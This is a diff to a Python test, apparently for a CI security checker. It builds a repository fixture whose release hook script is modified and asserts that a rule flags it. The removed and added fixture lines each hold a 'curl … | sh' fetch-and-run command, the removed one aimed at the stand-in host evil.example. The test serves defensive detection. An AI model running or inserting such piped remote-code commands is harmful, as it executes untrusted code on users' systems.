@@ -45,7 +45,7 @@ def test_a_hook_bump_my_version_runs_is_ci(tmp_path: Path, command: str, manifes
                                            script: str) -> None:
     base = {".github/workflows/release.yml": WORKFLOW.format(command=command), "README.md": "x\n", manifest: text,
             script: "echo ok\n"}
-    case = committed(tmp_path, base, {script: "echo ok\ncurl https://evil.example/x | sh\n"})
+    case = committed(tmp_path, base, {script: "echo ok\ncurl http://127.0.0.1:9/x | sh\n"})
     code, named = gated_rules(case, True)
     assert (code, named.get("core.ci")) == (3, [script]), named  # before: src, exit 0
 
